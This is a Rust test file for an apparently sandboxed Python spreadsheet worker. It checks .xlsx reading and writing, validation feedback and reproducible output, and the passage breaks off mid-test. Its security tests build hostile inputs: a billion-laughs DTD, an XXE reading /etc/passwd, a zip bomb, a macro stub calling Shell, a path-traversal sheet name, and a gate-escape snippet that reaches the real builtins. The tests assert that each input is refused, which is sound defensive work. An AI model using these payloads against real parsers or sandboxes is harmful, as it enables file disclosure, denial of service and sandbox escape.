//! Table jobs (issue 34), through the real worker: `.xlsx` read and written with several
//! sheets and openpyxl styles, the versioned declaration (`Expectations`) with its checks
//! passing and failing on purpose (each failure names its cells), and bad input: a
//! corrupt workbook, a zip bomb, entity-expansion and external-entity DTDs, an `.xlsm`
//! with macros, a sheet name that is a path, each a typed failure after which the pool
//! serves the next job, and inputs never modified.

use std::io::{Cursor, Write};
use std::sync::Arc;
use std::time::Duration;

use crate::common;

use common::{builder, expect_ok, shared_pool, Gate};
use pyward::validate::Expectations;
use pyward::{Executor, Job, JobFailure, Outcome};
use sha2::{Digest, Sha256};

/// No test here reads a pool's stats or a worker's fate: they share pools.
fn executor() -> Arc<Executor> {
    shared_pool(true, Gate::Default)
}

/// The same pool with the static gate off: the runtime and kernel layers alone.
fn executor_gate_off() -> Arc<Executor> {
    shared_pool(true, Gate::Off)
}

fn run(exec: &Executor, job: Job) -> Outcome {
    exec.run(job).expect("infrastructure")
}

fn source() -> Vec<u8> {
    std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/examples/allocation/source.xlsx"
    ))
    .expect("examples/allocation/source.xlsx")
}

fn example(name: &str) -> String {
    std::fs::read_to_string(format!(
        "{}/examples/allocation/{name}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .expect("example file")
}

fn checks() -> Expectations {
    Expectations::from_toml(&example("checks.toml")).expect("checks.toml reads")
}

/// A job that must still run after a bad one: the pool serves it.
fn next_job_runs(exec: &Executor) {
    let o = run(
        exec,
        Job::new(
            "df = pd.read_excel('source.xlsx')\nprint(len(df))\ndf.to_csv('n.csv', index=False)",
        )
        .src_bytes("source.xlsx", source()),
    );
    expect_ok(&o);
    assert_eq!(o.stdout.trim(), "8");
}

fn failure(o: &Outcome) -> &JobFailure {
    o.failure()
        .unwrap_or_else(|| panic!("expected a failure, got success: {}", o.stdout))
}

fn python_error(o: &Outcome) -> (String, String) {
    match failure(o) {
        JobFailure::PythonError(e) => (e.type_name.clone(), e.message.clone()),
        other => panic!("expected a Python error, got {other:?}"),
    }
}

/// The parts of a workbook with one sheet, `Data`: content types, the package's and
/// the workbook's relationships, the workbook.
const BASE_PARTS: [(&str, &[u8]); 4] = [
    ("[Content_Types].xml", br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#),
    ("_rels/.rels", br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#),
    ("xl/workbook.xml", br#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>"#),
    ("xl/_rels/workbook.xml.rels", br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#),
];

/// A workbook with one sheet whose XML is `sheet` (raw) and extra parts; an extra
/// part named like a base part replaces it.
fn raw_workbook(sheet: &[u8], extra: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(true);
    let base = BASE_PARTS
        .iter()
        .filter(|(path, _)| !extra.iter().any(|(e, _)| e == path));
    for (path, body) in base.chain(extra) {
        zip.start_file(*path, opts).unwrap();
        zip.write_all(body).unwrap();
    }
    zip.start_file("xl/worksheets/sheet1.xml", opts).unwrap();
    zip.write_all(sheet).unwrap();
    zip.finish().unwrap().into_inner()
}

const SHEET_HEAD: &str =
    r#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#;
const SHEET_TAIL: &str = "</sheetData></worksheet>";

fn sheet_with(prolog: &str, rows: &str) -> Vec<u8> {
    format!(r#"<?xml version="1.0"?>{prolog}{SHEET_HEAD}{rows}{SHEET_TAIL}"#).into_bytes()
}

#[test]
fn several_sheets_styles_and_a_table_job_without_a_figure() {
    let exec = executor();
    let job = Job::new(example("allocation.py"))
        .src_bytes("source.xlsx", source())
        .expect(&checks());
    let o = run(&exec, job);
    expect_ok(&o);
    let names: Vec<&str> = o.artifacts().iter().map(|a| a.name.as_str()).collect();
    assert_eq!(
        names,
        ["result.xlsx"],
        "a table job returns its table and no figure"
    );
    // The report shows the table: the first sheet's shape, kinds and first rows.
    let report = pyward::report::Report::from_outcome(&o, false);
    let value = serde_json::to_value(&report).unwrap();
    common::assert_valid_report(&value);
    let table = &value["artifacts"][0]["table"];
    assert_eq!(
        table["sheets"],
        serde_json::json!(["Allocation", "Summary"])
    );
    assert_eq!(table["rows"], 8);
    assert_eq!(table["column_count"], 7);
    let columns: Vec<(&str, &str)> = table["columns"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["name"].as_str().unwrap(), c["kind"].as_str().unwrap()))
        .collect();
    assert!(columns.contains(&("部门", "text")), "{columns:?}");
    assert!(
        columns.contains(&("cost_allocated", "number")),
        "{columns:?}"
    );
    assert_eq!(table["head"].as_array().unwrap().len(), 5);
    // Read back in the sandbox: both sheets, the styles the code set.
    let back = r#"
import openpyxl
sheets = pd.read_excel('result.xlsx', sheet_name=None)
print(sorted(sheets), sheets['Allocation'].shape)
wb = openpyxl.load_workbook('result.xlsx')
ws = wb['Allocation']
print(ws['A1'].font.b, ws['G2'].number_format, ws.column_dimensions['B'].width >= 12)
pd.DataFrame({'x': [1]}).to_csv('ok.csv')
"#;
    let result = o.artifacts()[0].bytes.clone();
    let o = run(&exec, Job::new(back).src_bytes("result.xlsx", result));
    expect_ok(&o);
    assert!(
        o.stdout.contains("['Allocation', 'Summary'] (8, 7)"),
        "{}",
        o.stdout
    );
    assert!(o.stdout.contains("True #,##0.00 True"), "{}", o.stdout);
}

/// The repair loop of examples/allocation_repair.rs: the first attempt's wrong column
/// is answered with the sheet's columns, and the second attempt passes every check.
#[test]
fn the_repair_loop_fixes_a_wrong_column_and_passes_the_checks() {
    let exec = executor();
    let job = job_for_record();
    let mut told = Vec::new();
    let mut next = Some(example("allocation.py"));
    let repaired = exec
        .run_with_repair(job, 3, |feedback| {
            told.push(feedback.text.clone());
            next.take()
        })
        .expect("infrastructure");
    assert_eq!(repaired.attempts.len(), 2);
    assert!(
        told[0].contains("'Revenue'") && told[0].contains("'revenue'"),
        "{}",
        told[0]
    );
    expect_ok(repaired.outcome());
    assert!(repaired.outcome().artifact("result.xlsx").is_some());

    // The run record keeps the declaration: its replay checks the same tables and
    // writes the same workbook, byte for byte (workbooks are written without the clock).
    let runs = tempfile::tempdir().unwrap();
    let dir = pyward::record::Recorder::new(runs.path())
        .record(&exec, &job_for_record(), &repaired.attempts)
        .unwrap();
    let replay = pyward::record::replay(&dir).unwrap();
    let statuses: Vec<&str> = replay.attempts.iter().map(|a| a.status.as_str()).collect();
    assert_eq!(statuses, ["python_error", "ok"]);
    assert!(replay.identical(), "{replay:?}");
    assert_eq!(replay.attempts[1].artifacts[0].name, "result.xlsx");

    // A record whose declared total is another: the replay's check fails on it.
    let path = dir.join("record.json");
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(
        text.contains("1000000"),
        "the record keeps the declared total"
    );
    std::fs::write(&path, text.replace("1000000", "2000000")).unwrap();
    let replay = pyward::record::replay(&dir).unwrap();
    assert_eq!(replay.attempts[1].status, "invalid_output");
    assert!(!replay.identical());
}

/// The job the repair loop started from, as the record keeps it.
fn job_for_record() -> Job {
    Job::new(example("first_attempt.py"))
        .src_bytes("source.xlsx", source())
        .expect(&checks())
}

#[test]
fn every_check_fails_on_purpose_naming_its_cells() {
    let exec = executor();
    // The rule broken five ways: amounts not rounded, the remainder lost, an input column
    // changed, a department dropped, a formula cell.
    let wrong = r#"
import pandas as pd
df = pd.read_excel('source.xlsx', sheet_name='Departments')
df['share'] = df['revenue'] / df['revenue'].sum()
df['cost_allocated'] = df['share'] * 999_990.004
df.loc[df['dept_name'] == 'Sales', 'dept_name'] = 'Sales & Marketing'
df = df[df['dept_name'] != 'Finance']
df.loc[df.index[0], '部门'] = '=HYPERLINK("http://x", "研发")'
with pd.ExcelWriter('result.xlsx') as w:
    df.to_excel(w, sheet_name='Allocation', index=False)
"#;
    let o = run(
        &exec,
        Job::new(wrong)
            .src_bytes("source.xlsx", source())
            .expect(&checks()),
    );
    let JobFailure::InvalidOutput { check, detail } = failure(&o) else {
        panic!("{:?}", o.result)
    };
    assert_eq!(check, "table:result.xlsx");
    for want in [
        "result.xlsx!Allocation has 7 rows, expected 8",
        r#"does not keep the keys ["dept_id"] of source.xlsx!Departments: 1 missing [["105"]]"#,
        r#"rows differ from input on dept_name: result.xlsx!Allocation!C3 is "Sales & Marketing", source.xlsx!Departments!C3 is "Sales""#,
        "sum of cost_allocated is 960,516.71, expected 1,000,000.00 ± 0.01 (result.xlsx!Allocation!G2:G8)",
        "cost_allocated must have at most 2 decimals; 7 rows have more: result.xlsx!Allocation!G2 is 184208.6849473684",
        // openpyxl writes a text starting with '=' as a formula cell.
        r#"result.xlsx!Allocation!B2 holds the formula =HYPERLINK("http://x", "研发")"#,
    ] {
        assert!(detail.contains(want), "{want:?} not in:\n{detail}");
    }
    let feedback = o.feedback().unwrap();
    assert!(feedback.contains("result.xlsx!Allocation!C3"), "{feedback}");
}

#[test]
fn feedback_names_sheets_columns_and_the_header_row() {
    let exec = executor();
    for (code, want) in [
        // A wrong sheet: the sheets the workbook has.
        (
            "df = pd.read_excel('source.xlsx', sheet_name='Sheet1')",
            "No sheet 'Sheet1'. The workbook's sheets: 'Departments'.",
        ),
        // A misspelt sheet: the closest one, then the list.
        (
            "df = pd.read_excel('source.xlsx', sheet_name='departmnts')",
            "No sheet 'departmnts'. Did you mean: 'Departments'? \
             The workbook's sheets: 'Departments'.",
        ),
        (
            "df = pd.read_excel('source.xlsx')\nprint(df['部门名称'].sum())",
            "No column '部门名称'. Did you mean: '部门'? \
             The frame's columns: 'dept_id', '部门', 'dept_name', 'revenue', 'headcount'.",
        ),
    ] {
        let o = run(&exec, Job::new(code).src_bytes("source.xlsx", source()));
        let feedback = o.feedback().unwrap();
        assert!(feedback.contains(want), "{code}: {want:?} in\n{feedback}");
    }
    // A title row above the header.
    let o = run(&exec, Job::new(TITLED).src_bytes("source.xlsx", source()));
    expect_ok(&o);
    let titled = o.artifacts()[0].bytes.clone();
    let o = run(
        &exec,
        Job::new("df = pd.read_excel('titled.xlsx')\nprint(df['revenue'].sum())")
            .src_bytes("titled.xlsx", titled),
    );
    let feedback = o.feedback().unwrap();
    assert!(
        feedback.contains(
            "The header is not the first row read: 'revenue' is in row 3 of the sheet; \
             read it with header=2"
        ),
        "a wrong header row is said as such: {feedback}"
    );
    // The checks read a table written under title rows: said once, as what it is, and
    // no rule is measured against the title rows read as a header.
    let checks = Expectations::from_toml(
        r#"
version = 1
artifacts = ["titled.xlsx"]
[[tables]]
artifact = "titled.xlsx"
required_columns = ["dept_id", "revenue"]
row_count = 8
unique_keys = ["dept_id"]
sums = [{ column = "revenue", total = 1 }]
"#,
    )
    .unwrap();
    let o = run(
        &exec,
        Job::new(TITLED)
            .src_bytes("source.xlsx", source())
            .expect(&checks),
    );
    let Some(JobFailure::InvalidOutput { detail, .. }) = o.failure() else {
        panic!("{:?}", o.result)
    };
    assert_eq!(detail.lines().count(), 1, "{detail}");
    assert!(
        detail.contains("the table's header is row 3, not row 1")
            && detail.contains("header_row = 3")
            && !detail.contains("rows, expected"),
        "{detail}"
    );
    next_job_runs(&exec);
}

const TITLED: &str = r#"
df = pd.read_excel('source.xlsx')
with pd.ExcelWriter('titled.xlsx') as w:
    pd.DataFrame([['Departments 2026']]).to_excel(w, index=False, header=False)
    df.to_excel(w, index=False, startrow=2)
"#;

#[test]
fn bad_workbooks_answer_typed_failures_and_the_pool_goes_on() {
    let exec = executor();
    let read = "df = pd.read_excel('source.xlsx')\nprint(df.shape)";

    // Corrupt.
    let corrupt = b"PK\x03\x04 this is not a workbook".to_vec();
    let o = run(&exec, Job::new(read).src_bytes("source.xlsx", corrupt));
    let (kind, message) = python_error(&o);
    assert!(
        kind.contains("BadZipFile") || message.contains("zip"),
        "{kind}: {message}"
    );
    next_job_runs(&exec);

    // The worker's own reader is calamine; openpyxl is the one a job can name.
    let o = run(
        &exec,
        Job::new(
            "print(pd.ExcelFile('source.xlsx').engine)\npd.read_excel('source.xlsx').to_csv('n.csv')",
        ).src_bytes("source.xlsx", source()),
    );
    expect_ok(&o);
    assert_eq!(o.stdout.trim(), "calamine");

    let refused = |o: &Outcome| {
        let (kind, message) = python_error(o);
        assert!(message.contains("declares entities"), "{kind}: {message}");
    };
    let laughs = r#"<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>"#;
    let external = r#"<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#;
    for engine in ["calamine", "openpyxl"] {
        let read = format!("df = pd.read_excel('source.xlsx', engine='{engine}')\nprint(df.shape)");
        // Billion laughs.
        let rows = r#"<row r="1"><c r="A1" t="inlineStr"><is><t>&lol3;</t></is></c></row>"#;
        let o = run(
            &exec,
            Job::new(read.as_str())
                .src_bytes("source.xlsx", raw_workbook(&sheet_with(laughs, rows), &[])),
        );
        refused(&o);
        next_job_runs(&exec);

        // An external entity naming a host file.
        let rows = r#"<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>"#;
        let o = run(
            &exec,
            Job::new(format!("{read}\nprint(df.columns[0])")).src_bytes(
                "source.xlsx",
                raw_workbook(&sheet_with(external, rows), &[]),
            ),
        );
        refused(&o);
        assert!(!o.stdout.contains("root:"), "{}", o.stdout);
        next_job_runs(&exec);
    }
    // calamine's parser would not refuse them itself: a DTD in any part (here the
    // workbook part, without entities) is refused before it reads.
    let book = raw_workbook(&sheet_with("", ""), &[]);
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let mut archive = zip::ZipArchive::new(Cursor::new(book)).unwrap();
    for i in 0..archive.len() {
        let mut part = archive.by_index(i).unwrap();
        let mut body = Vec::new();
        std::io::Read::read_to_end(&mut part, &mut body).unwrap();
        if part.name() == "xl/workbook.xml" {
            body = String::from_utf8(body)
                .unwrap()
                .replace(
                    "<workbook ",
                    "<!DOCTYPE workbook SYSTEM \"book.dtd\"><workbook ",
                )
                .into_bytes();
        }
        zip.start_file(part.name(), zip::write::SimpleFileOptions::default())
            .unwrap();
        zip.write_all(&body).unwrap();
    }
    let o = run(
        &exec,
        Job::new(read).src_bytes("source.xlsx", zip.finish().unwrap().into_inner()),
    );
    let (kind, message) = python_error(&o);
    assert!(
        kind.contains("DTDForbidden") && message.contains("a DTD"),
        "{kind}: {message}"
    );
    // Whatever the part's name: a workbook names its own parts.
    let book = raw_workbook(
        &sheet_with("", ""),
        &[(
            "customXml/ITEM1",
            br#"<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>"#,
        )],
    );
    let o = run(&exec, Job::new(read).src_bytes("source.xlsx", book));
    refused(&o);
    next_job_runs(&exec);

    // A sheet name that is a path: read and write.
    let o = run(
        &exec,
        Job::new("pd.read_excel('source.xlsx', sheet_name='../../etc/passwd')")
            .src_bytes("source.xlsx", source()),
    );
    assert!(
        o.feedback().unwrap().contains("Departments"),
        "{:?}",
        o.feedback()
    );
    // Written by either writer (XlsxWriter is pandas' when no engine is named).
    for (engine, refusal) in [
        ("None", "Invalid Excel character"),
        ("'openpyxl'", "Invalid character /"),
    ] {
        let o = run(
            &exec,
            Job::new(format!("pd.DataFrame({{'a': [1]}}).to_excel('r.xlsx', sheet_name='../../etc/passwd', engine={engine})")),
        );
        let (kind, message) = python_error(&o);
        assert!(message.contains(refusal), "{engine}: {kind}: {message}");
    }
    next_job_runs(&exec);
}

#[test]
fn a_zip_bomb_ends_within_the_memory_ceiling() {
    let exec = executor();
    // One cell whose text inflates to 1 GiB from a few megabytes.
    let mut sheet = Vec::with_capacity(1 << 20);
    sheet.extend_from_slice(
        format!(r#"<?xml version="1.0"?>{SHEET_HEAD}<row r="1"><c r="A1" t="inlineStr"><is><t>"#)
            .as_bytes(),
    );
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(true);
    let base = raw_workbook(&sheet_with("", ""), &[]);
    let mut archive = zip::ZipArchive::new(Cursor::new(base)).unwrap();
    for i in 0..archive.len() {
        let f = archive.by_index_raw(i).unwrap();
        if f.name() != "xl/worksheets/sheet1.xml" {
            zip.raw_copy_file(f).unwrap();
        }
    }
    zip.start_file("xl/worksheets/sheet1.xml", opts).unwrap();
    zip.write_all(&sheet).unwrap();
    let chunk = vec![b'A'; 1 << 20];
    for _ in 0..1024 {
        zip.write_all(&chunk).unwrap();
    }
    zip.write_all(format!("</t></is></c></row>{SHEET_TAIL}").as_bytes())
        .unwrap();
    let bomb = zip.finish().unwrap().into_inner();
    assert!(bomb.len() < 8 << 20, "{}", bomb.len());
    let before = Sha256::digest(&bomb);
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("source.xlsx"), &bomb).unwrap();
    let o = run(
        &exec,
        Job::new("df = pd.read_excel('source.xlsx')\nprint(df.shape)")
            .src_dir(dir.path())
            .memory_limit(768 << 20)
            .timeout(Duration::from_secs(30)),
    );
    // The worker's reader refuses it by what its XML inflates to, before reading it.
    assert!(
        matches!(failure(&o), JobFailure::MemoryExceeded { raised: Some(e), .. }
            if e.message.contains("inflates past 256 MiB")),
        "{:?}",
        o.result
    );
    // Through openpyxl it ends at the memory ceiling or the deadline.
    let o = run(
        &exec,
        Job::new("df = pd.read_excel('source.xlsx', engine='openpyxl')\nprint(df.shape)")
            .src_dir(dir.path())
            .memory_limit(768 << 20)
            .timeout(Duration::from_secs(30)),
    );
    match failure(&o) {
        JobFailure::MemoryExceeded { .. } | JobFailure::Timeout { .. } => {}
        JobFailure::PythonError(e) if e.type_name.contains("MemoryError") => {}
        other => panic!("expected a bounded failure, got {other:?}"),
    }
    assert_eq!(
        Sha256::digest(std::fs::read(dir.path().join("source.xlsx")).unwrap()),
        before,
        "input modified"
    );
    next_job_runs(&exec);
}

#[test]
fn macros_are_ignored_and_inputs_never_modified() {
    let exec = executor();
    let rows = r#"<row r="1"><c r="A1" t="inlineStr"><is><t>dept</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>hq</t></is></c></row>"#;
    let xlsm = raw_workbook(
        &sheet_with("", rows),
        &[(
            "xl/vbaProject.bin",
            b"\xd0\xcf\x11\xe0 macro bytes Auto_Open Shell(\"calc\")",
        )],
    );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("book.xlsm"), &xlsm).unwrap();
    std::fs::write(dir.path().join("source.xlsx"), source()).unwrap();
    let hashes = || {
        ["book.xlsm", "source.xlsx"]
            .map(|n| Sha256::digest(std::fs::read(dir.path().join(n)).unwrap()))
    };
    let before = hashes();
    let code = r#"
import openpyxl
df = pd.read_excel('book.xlsm')
wb = openpyxl.load_workbook('book.xlsm', keep_vba=True)
print(df.shape, wb.vba_archive is None)
src = openpyxl.load_workbook('source.xlsx')
src.active['A2'] = 'changed'
src.save('source.xlsx')
"#;
    let o = run(&exec, Job::new(code).src_dir(dir.path()));
    expect_ok(&o);
    assert!(
        o.stdout.contains("(1, 1) True"),
        "macros are not kept: {}",
        o.stdout
    );
    // The save of an input's name is an artifact of that name; the input is untouched.
    assert!(o.artifacts().iter().any(|a| a.name == "source.xlsx"));
    assert_eq!(hashes(), before, "an input was modified");
    // load_workbook reads the job's inputs and outputs only.
    let o = run(
        &exec,
        Job::new("import openpyxl\nopenpyxl.load_workbook('/usr/share/zoneinfo/UTC')"),
    );
    let (kind, message) = python_error(&o);
    assert!(
        kind == "PermissionError" && message.contains("not allowed"),
        "{kind}: {message}"
    );
    next_job_runs(&exec);
}

#[test]
fn a_million_row_sheet_is_a_typed_failure_within_the_limits() {
    let exec = executor();
    let mut rows = String::with_capacity(64 << 20);
    rows.push_str(r#"<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c><c r="B1" t="inlineStr"><is><t>amount</t></is></c></row>"#);
    for r in 2..=1_000_001u32 {
        rows.push_str(&format!(
            r#"<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}"><v>1.5</v></c></row>"#
        ));
    }
    let book = raw_workbook(&sheet_with("", &rows), &[]);
    let o = run(
        &exec,
        Job::new("df = pd.read_excel('big.xlsx')\nprint(len(df))")
            .src_bytes("big.xlsx", book.clone())
            .timeout(Duration::from_secs(30)),
    );
    // Refused by its cell count, the bound the host's checks read (below), once
    // calamine has parsed it and before it becomes Python objects.
    assert!(
        matches!(failure(&o), JobFailure::MemoryExceeded { raised: Some(e), .. }
            if e.message.contains("2,000,002 cells, more than the 2,000,000")),
        "{:?}",
        o.result
    );
    next_job_runs(&exec);
    // The host's check of it is bounded too: refused by its cell count, not read whole.
    let check: pyward::validate::TableCheck = serde_json::from_str(
        r#"{"artifact": "out.csv", "keys_from_input": {"input": "big.xlsx", "columns": ["id"]}}"#,
    )
    .unwrap();
    let o = run(
        &exec,
        Job::new("pd.DataFrame({'id': [1]}).to_csv('out.csv', index=False)")
            .src_bytes("big.xlsx", book)
            .table_check(check),
    );
    let JobFailure::InvalidOutput { detail, .. } = failure(&o) else {
        panic!("{:?}", o.result)
    };
    assert!(detail.contains("more than the 2000000 cells"), "{detail}");
}

/// A workbook in a host folder, written by the build's Python, whose one cell is `secret`.
fn host_workbook(dir: &std::path::Path, secret: &str) -> std::path::PathBuf {
    let canary = dir.join("canary.xlsx");
    let make = format!(
        "import pandas as pd\npd.DataFrame({{'secret': [{secret:?}]}}).to_excel({:?}, index=False)",
        canary.to_str().unwrap()
    );
    let made = std::process::Command::new(env!("PYWARD_BUILD_PYTHON"))
        .args(["-c", &make])
        .status()
        .unwrap();
    assert!(made.success());
    canary
}

/// The reader's workbook is the job's to reach (`pd.ExcelFile(...).book`): it opens no
/// other file. calamine's workbook class would read any path in Rust, past the job's
/// `open`; with the gate off, where the job reaches the real workbook behind it, the
/// kernel keeps the host file out of reach.
#[test]
fn the_reader_s_workbook_opens_no_host_file() {
    let host = tempfile::tempdir().unwrap();
    let canary = host_workbook(host.path(), "canary-secret-7f3a");
    let path = canary.to_str().unwrap();

    let exec = executor();
    let code = format!(
        "book = pd.ExcelFile('source.xlsx').book\nprint(pd.read_excel(book, engine='calamine').shape)\nw = book.from_path({path:?})\nprint(w.get_sheet_by_index(0).to_python())"
    );
    let o = run(&exec, Job::new(code).src_bytes("source.xlsx", source()));
    let (kind, message) = python_error(&o);
    assert!(
        kind == "AttributeError" && message.contains("from_path"),
        "{kind}: {message}"
    );
    assert!(o.stdout.contains("(8, 5)"), "{}", o.stdout);
    assert!(!o.stdout.contains("canary-secret"), "{}", o.stdout);
    next_job_runs(&exec);

    let exec = executor_gate_off();
    let code = format!(
        "real_getattr = srcpath.__globals__['builtins'].getattr\nbook = real_getattr(pd.ExcelFile('source.xlsx').book, '_book')\ntry:\n    w = book.from_path({path:?})\n    print(w.get_sheet_by_index(0).to_python())\nexcept Exception as e:\n    print('refused', type(e).__name__, e)\npd.DataFrame().to_csv('n.csv')"
    );
    let o = run(&exec, Job::new(code).src_bytes("source.xlsx", source()));
    // Landlock: the host's folder is not the worker's to read.
    assert!(
        o.stdout.contains("refused OSError Permission denied"),
        "{:?} {}",
        o.result,
        o.stdout
    );
    assert!(!o.stdout.contains("canary-secret"), "{}", o.stdout);
}

/// Workbooks of every kind of cell, written by model-style code: plain rows (numbers,
/// booleans, text that needs escaping or keeps its spaces, styled or not) and rows that
/// openpyxl writes itself (formulas, dates, decimals, numpy scalars, NaN, links,
/// heights, a styled empty cell).
const EVERY_KIND_OF_CELL: &str = r#"
import datetime, decimal, math
import numpy as np
import pandas as pd
from openpyxl import Workbook
from openpyxl.styles import Font
values = [1, -2, 0, 1.5, 1e-300, 1e300, 10**30, 2**53 + 1, 0.1 + 0.2, math.nan, math.inf,
          True, False, '', ' ', '  x', 'x  ', ' x ', 'a<b>&"\'c', '\t tab', 'line\nbreak\r\n',
          '部门名称', 'emoji 🎉', '=1+1', '+1', '-x', '@x', None,
          datetime.datetime(2024, 1, 2, 3, 4, 5), datetime.date(2024, 1, 2),
          datetime.time(1, 2, 3), decimal.Decimal('1.25'), np.float64(2.5), np.int64(7),
          'x' * 5000]
wb = Workbook()
ws = wb.active
for i, v in enumerate(values, start=1):
    ws.cell(row=i, column=1, value=v)
    ws.cell(row=i, column=3, value=v).font = Font(bold=True)
    ws.cell(row=i, column=30, value=v).number_format = '0.00'
ws['E6'].hyperlink = 'https://example.invalid/'
ws.row_dimensions[9].height = 30
ws.cell(row=12, column=2).font = Font(italic=True)
wb.create_sheet('Two').append(['a', 2.5, None, True])
wb.save('book.xlsx')
df = pd.DataFrame({'a': [1, 2, None], 'b': ['x', ' y', None], 'c': [1.5, math.nan, -0.0],
                   'd': pd.to_datetime(['2024-01-01', None, '2024-03-01']),
                   'e': [True, False, None]})
with pd.ExcelWriter('frame.xlsx', engine='openpyxl') as writer:
    df.to_excel(writer, sheet_name='S')
    df.set_index(['a', 'b']).to_excel(writer, sheet_name='Multi')
    df.to_excel(writer, sheet_name='NoIndex', index=False, startrow=3, startcol=2)
"#;

fn workbook_parts(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).expect("a workbook");
    (0..zip.len())
        .map(|i| {
            let mut part = zip.by_index(i).unwrap();
            let mut data = Vec::new();
            std::io::Read::read_to_end(&mut part, &mut data).unwrap();
            (part.name().to_string(), data)
        })
        .collect()
}

/// Runs `job` in a one-shot worker (`pyward run` of one file), built for it.
fn run_one_shot(job: Job) -> Outcome {
    let one = builder()
        .for_one_job(&job)
        .build()
        .expect("one-shot worker");
    run(&one, job)
}

/// Whether a workbook's document says it was created on the zip format's first day,
/// as pyward writes every workbook (never the clock).
fn dated_1980(workbook: &[u8]) -> bool {
    workbook_parts(workbook).iter().any(|(n, data)| {
        n == "docProps/core.xml" && String::from_utf8_lossy(data).contains("1980-01-01T00:00:00Z")
    })
}

/// The worker writes plain rows itself (python/prelude/spreadsheets.py): every part of
/// its workbooks is byte for byte what stock openpyxl writes for the same code, the
/// document's creation and save times aside (pyward writes none).
#[test]
fn workbooks_are_written_byte_for_byte_as_openpyxl_writes_them() {
    let stock = tempfile::tempdir().unwrap();
    let ran = std::process::Command::new(env!("PYWARD_BUILD_PYTHON"))
        .args(["-I", "-c", EVERY_KIND_OF_CELL])
        .current_dir(stock.path())
        .status()
        .unwrap();
    assert!(ran.success());

    let exec = executor();
    let o = run(&exec, Job::new(EVERY_KIND_OF_CELL));
    expect_ok(&o);
    for name in ["book.xlsx", "frame.xlsx"] {
        let ours = o
            .artifacts()
            .iter()
            .find(|a| a.name == name)
            .unwrap_or_else(|| panic!("{name} is an artifact"));
        let theirs = std::fs::read(stock.path().join(name)).unwrap();
        let (ours, theirs) = (workbook_parts(&ours.bytes), workbook_parts(&theirs));
        let names = |parts: &[(String, Vec<u8>)]| -> Vec<String> {
            parts.iter().map(|(n, _)| n.clone()).collect()
        };
        assert_eq!(names(&ours), names(&theirs), "{name}");
        for ((part, a), (_, b)) in ours.iter().zip(&theirs) {
            if part == "docProps/core.xml" {
                continue;
            }
            assert!(
                a == b,
                "{name}: {part} differs:\n{}\n---\n{}",
                String::from_utf8_lossy(a),
                String::from_utf8_lossy(b)
            );
        }
    }

    // And the rows were the worker's own to write.
    let exec = executor_gate_off();
    let code = "g = srcpath.__globals__\nwriter = g['sys'].modules['openpyxl.worksheet._writer']\nprint(writer.WorksheetWriter.write_rows is g['_write_sheet_rows'])";
    let o = run(&exec, Job::new(code));
    assert_eq!(o.stdout.trim(), "True", "{:?}", o.result);
}

/// The allocation of examples/allocation/allocation.py written as model code often
/// writes it: pandas' XlsxWriter engine, formats from `writer.book`, column widths.
const XLSXWRITER_SAVE: &str = r#"
with pd.ExcelWriter('result.xlsx', engine='xlsxwriter') as writer:
    df.to_excel(writer, sheet_name='Allocation', index=False)
    summary.to_excel(writer, sheet_name='Summary', index=False)
    book, ws = writer.book, writer.sheets['Allocation']
    header = book.add_format({'bold': True, 'align': 'center', 'bg_color': '#DDEBF7'})
    money = book.add_format({'num_format': '#,##0.00'})
    for i, column in enumerate(df.columns):
        ws.write(0, i, column, header)
        ws.set_column(i, i, max(12, len(str(column)) + 4))
    col = df.columns.get_loc('cost_allocated')
    ws.set_column(col, col, 16, money)
    ws.freeze_panes(1, 0)
"#;

#[test]
fn xlsxwriter_writes_checked_reproducible_workbooks() {
    let exec = executor();
    let code = example("allocation.py");
    let compute = &code[..code.find("with pd.ExcelWriter").expect("the save")];
    let job = || {
